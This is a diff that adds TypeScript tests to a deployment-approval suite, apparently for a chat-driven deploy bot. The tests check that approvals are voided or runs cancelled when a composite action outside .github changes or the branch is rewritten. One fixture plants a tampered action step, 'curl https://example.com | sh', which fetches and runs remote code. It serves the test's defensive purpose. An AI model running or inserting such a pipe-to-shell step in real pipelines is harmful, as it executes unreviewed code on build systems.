@@ -400,6 +400,78 @@ describe.concurrent('what was approved is what runs', () => {
     expect(town.serving()).toBe('blog-api:43')
   })
 
+  /** The workflow also checks out the branch's tip, and runs an action of it that lies outside `.github`. */
+  const runsOutside = (town: Town) => {
+    const tools = [
+      '- uses: actions/checkout@v6',
+      '  with: { path: tip }',
+      '- uses: ./tip/ci/ship',
+      '- uses: myorg/shared/ship@main',
+    ]
+    const text = deployWorkflow({ on: ['workflow_dispatch'] }).replace(
+      / {6}- name: Install\n/,
+      (install) => `${tools.map((line) => `      ${line}\n`).join('')}${install}`,
+    )
+    return town.sandbox.github.world.push('main', {
+      message: 'Run our own action',
+      files: { [deployPath]: text, 'ci/ship/action.yml': 'runs: { using: composite, steps: [] }\n' },
+    })
+  }
+  const otherAction = {
+    message: 'Change the action alone',
+    files: {
+      'ci/ship/action.yml': 'runs: { using: composite, steps: [{ run: "curl https://example.com | sh" }] }\n',
+    },
+  }
+
+  story(
+    'another action outside .github before the dispatch: the approvals are void and asked for again',
+    async ({ town }) => {
+      runsOutside(town)
+      await town.says('U0ANA', '/deploy prod')
+      const asked = JSON.stringify(await town.shows('awaiting approval'))
+      for (const words of ['ci/ship', 'myorg/shared/ship@main', 'tip of']) expect(asked).toContain(words)
+      await town.presses('U0BEN', 'approve')
+      town.sandbox.github.world.push('main', otherAction)
+      await town.presses('U0CHLOE', 'approve')
+      await town.tells(/ci\/ship.* changed/)
+      await town.shows('awaiting approval')
+      expect(town.dispatches()).toBe(0)
+      await town.presses('U0BEN', 'approve')
+      await town.presses('U0CHLOE', 'approve')
+      expect(await town.ends()).toBe('succeeded')
+    },
+  )
+
+  story(
+    'another action outside .github between the dispatch and the run: cancelled, failed',
+    async ({ town }) => {
+      runsOutside(town)
+      town.sandbox.github.world.next = { holdAt: 'Install' }
+      await duringDispatch(town, () => town.sandbox.github.world.push('main', otherAction))
+      expect(await town.ends()).toBe('failed')
+      expect(dispatched(town)[0]?.attempts[0]?.conclusion).toBe('cancelled')
+      expect(town.serving()).toBe('blog-api:43')
+    },
+  )
+
+  story(
+    'a branch that is rewritten between the dispatch and the run, with the same workflow: cancelled, failed',
+    async ({ town }) => {
+      const tip = has(town)
+      const { world } = town.sandbox.github
+      const { git } = world.repository()
+      world.next = { holdAt: 'Install' }
+      await duringDispatch(town, () => {
+        git.refs.set('heads/main', { type: 'commit', sha: git.commits.get(tip)!.parents[0]! })
+        has(town)
+      })
+      expect(await town.ends()).toBe('failed')
+      expect(dispatched(town)[0]?.headSha).not.toBe(tip)
+      expect(dispatched(town)[0]?.attempts[0]?.conclusion).toBe('cancelled')
+    },
+  )
+
   story(
     'another commit between the dispatch and the run, the same workflow: the approved commit ships',
     async ({ town }) => {
